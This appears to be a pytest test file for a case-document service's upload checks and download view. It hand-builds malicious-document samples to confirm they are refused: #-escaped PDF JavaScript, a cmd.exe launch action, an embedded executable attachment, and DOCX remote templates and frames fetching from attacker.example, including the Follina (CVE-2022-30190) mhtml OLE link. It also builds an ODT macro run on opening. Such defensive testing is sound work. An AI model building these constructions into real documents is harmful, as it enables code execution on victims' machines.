"""Review findings of 2026-12-07 (b): active content that got past the checks, and the download view.

The PDFs are written by hand as a hostile tool writes them: names #-escaped (`/Java#53cript` is
`/JavaScript` to every reader), actions hung off pages, links, form fields and outlines rather than
the catalog, and objects inside compressed object streams, where no search of the bytes sees them.
"""

import logging

import pytest
from django.urls import reverse

from cspr.core.files import FileRefused
from cspr.core.models import AuditEvent
from cspr.documents.checks import check
from tests.documents import files
from tests.service.conftest import cases, client_for, people  # noqa: F401 (the service tests' fixtures)

REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
JS_HEX = b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"


def catalog(extra: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


HOSTILE_PDFS = {
    "page opening runs JavaScript, #-escaped": (
        lambda: files.hand_built_pdf(
            files.CATALOG,
            files.PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O " + JS_HEX + b" >> >>",
        ),
        "JavaScript",
    ),
    "link launches a program, #-escaped": (
        lambda: files.pdf_with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launc#68 /F (cmd.exe) >> >>"
        ),
        "an action that launches a program",
    ),
    "web link whose /Next runs JavaScript": (
        lambda: files.hand_built_pdf(
            files.CATALOG,
            files.PAGES,
            files.PAGE_WITH_ANNOTATION,
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) /Next [5 0 R] >> >>",
            JS_HEX,
        ),
        "JavaScript",
    ),
    "file attachment annotation carrying a program": (
        lambda: files.hand_built_pdf(
            files.CATALOG,
            files.PAGES,
            files.PAGE_WITH_ANNOTATION,
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 50] "
            b"/FS << /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >> >>",
            b"<< /Length 4 >>\nstream\nMZ\x00\x00\nendstream",
        ),
        "embedded files",
    ),
    "form field keystroke runs JavaScript": (
        lambda: files.hand_built_pdf(
            catalog(b"/AcroForm << /Fields [4 0 R] >>"),
            files.PAGES,
            files.PAGE_WITH_ANNOTATION,
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 9 9] /P 3 0 R /AA << /K "
            + JS_HEX
            + b" >> >>",
        ),
        "JavaScript",
    ),
    "XFA form": (
        lambda: files.hand_built_pdf(
            catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
            files.PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            b"<< /Length 5 >>\nstream\n<xdp/\nendstream",
        ),
        "an XFA form",
    ),
    "bookmark submits a form": (
        lambda: files.hand_built_pdf(
            catalog(b"/Outlines 4 0 R"),
            files.PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            b"<< /Title (Summary) /Parent 4 0 R /A << /S /Submit#46orm /F (https://example.org/) >> >>",
        ),
        "a form action that sends or loads data",
    ),
    "JavaScript inside a compressed object stream": (
        lambda: files.pdf_with_compressed_objects(
            files.CATALOG,
            files.PAGES,
            files.PAGE_WITH_ANNOTATION,
            compressed=b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (app.alert(1)) >> >>",
        ),
        "JavaScript",
    ),
    "rich media annotation": (
        lambda: files.pdf_with_annotation(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        "interactive media",
    ),
}


@pytest.mark.parametrize(("make", "message"), HOSTILE_PDFS.values(), ids=HOSTILE_PDFS.keys())
def test_a_pdf_with_active_content_anywhere_in_it_is_refused(make, message):
    with pytest.raises(FileRefused, match=f"the PDF contains {message}.*print it to a new PDF"):
        check(make())


def test_a_pdf_with_links_to_pages_and_websites_is_accepted():
    data = files.hand_built_pdf(
        files.CATALOG,
        files.PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 5 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gov.uk/) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
    )
    assert check(data).pages == 1


# --- DOCX and ODT ---------------------------------------------------------------------------------

TEMPLATE_IN_SETTINGS = (b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom')


def docx_with_template(target: bytes) -> bytes:
    rels = files.relationships(
        b'<Relationship Id="rIdT" Type="' + REL + b'attachedTemplate" Target="' + target + b'" TargetMode="External"/>'
    )
    return files.docx_with({"word/_rels/settings.xml.rels": rels}, settings_xml=TEMPLATE_IN_SETTINGS)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
HOSTILE_PACKAGES = {
    "docx remote template": (lambda: docx_with_template(b"https://attacker.example/t.dotm"), "loads a template"),
    "docx template on a network share": (
        lambda: docx_with_template(b"\\\\attacker.example\\share\\t.dotm"),
        "loads a template",
    ),
    "docx template whose address hides a >": (
        lambda: files.docx_with(
            {
                "word/_rels/settings.xml.rels": files.relationships(
                    b'<Relationship Id="rIdT" Type="' + REL + b'attachedTemplate" '
                    b'Target="https://attacker.example/a>b.dotm" TargetMode="External"/>'
                )
            },
            settings_xml=TEMPLATE_IN_SETTINGS,
        ),
        "loads a template",
    ),
    "docx external frame": (
        lambda: files.docx_with(
            {
                "word/_rels/webSettings.xml.rels": files.relationships(
                    b'<Relationship Id="rId1" Type="' + REL + b'frame" Target="https://attacker.example/f.html" '
                    b'TargetMode="External"/>'
                )
            }
        ),
        "loads a template or other content",
    ),
    "docx embedded OLE object": (lambda: files.docx_with({"word/embeddings/oleObject1.bin": OLE}), "embedded objects"),
    "docx external OLE object (CVE-2022-30190)": (
        lambda: files.docx_with(
            {
                "word/_rels/document.xml.rels": files.relationships(
                    b'<Relationship Id="rId9" Type="' + REL + b'oleObject" '
                    b'Target="mhtml:https://attacker.example/x.html!x-usc:https://attacker.example/x.html" '
                    b'TargetMode="External"/>'
                )
            }
        ),
        "embedded objects",
    ),
    "odt macro run on opening": (
        lambda: files.odt_with(
            {},
            content_edit=(
                b"<office:body>",
                b'<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
                b'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Tools.Misc.Run?language=Basic&amp;'
                b'location=application"/></office:event-listeners></office:scripts><office:body>',
            ),
        ),
        "contains macros",
    ),
    "odt embedded OLE object": (lambda: files.odt_with({"Object 1": OLE}), "embedded objects"),
}


@pytest.mark.parametrize(("make", "message"), HOSTILE_PACKAGES.values(), ids=HOSTILE_PACKAGES.keys())
def test_a_document_that_loads_or_embeds_code_is_refused(make, message):
    with pytest.raises(FileRefused, match=message):
        check(make())


def test_a_docx_from_a_template_on_the_author_s_own_machine_or_with_a_chart_is_accepted():
    assert check(docx_with_template(b"file:///C:\\Users\\alice\\Templates\\Council report.dotx")).file_format == "docx"
    # Word keeps a chart's data as a workbook (a zip) tied to the chart; one placed in the text is refused.
    assert check(files.docx_with_chart(files.workbook())).file_format == "docx"


# --- Downloads ------------------------------------------------------------------------------------


def given_a_document_on_case_a(people, cases):  # noqa: F811 (the fixture's value)
    from cspr.documents import actions

    return actions.case_document_attach(
        actor=people["alice"],
        notification_id=cases["A"].pk,
        kind="rapid_review_report",
        title="Rapid review report",
        upload_name="rapid review for Child Smith.pdf",
        data=files.pdf(),
    )


@pytest.mark.django_db
def test_a_document_whose_file_is_missing_is_a_clear_page_not_an_audited_download(
    cases,  # noqa: F811
    people,  # noqa: F811
    client_for,  # noqa: F811
    caplog,
):
    document = given_a_document_on_case_a(people, cases)
    document.file.storage.delete(document.file.name)  # as after a restore without the documents archive
    with caplog.at_level(logging.ERROR, logger="cspr.documents"):
        response = client_for(people["sam"]).get(reverse("document_download", args=["A-1", document.pk]))
    html = response.content.decode()
    assert response.status_code == 404
    assert "The document is not available" in html and "administrator" in html
    assert not AuditEvent.objects.filter(action="document.download").exists()
    [record] = [r for r in caplog.records if r.name == "cspr.documents"]
    logged = record.getMessage()
    assert str(document.pk) in logged and document.file.name in logged
    assert "Smith" not in logged and "A-1" not in logged  # no child's details, no case reference


@pytest.mark.django_db
def test_a_head_request_is_not_recorded_as_a_download(cases, people, client_for):  # noqa: F811
    document = given_a_document_on_case_a(people, cases)
    sam = client_for(people["sam"])
    url = reverse("document_download", args=["A-1", document.pk])
    response = sam.head(url)
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")
    assert not AuditEvent.objects.filter(action="document.download").exists()
    b"".join(sam.get(url).streaming_content)
    assert AuditEvent.objects.filter(action="document.download").count() == 1
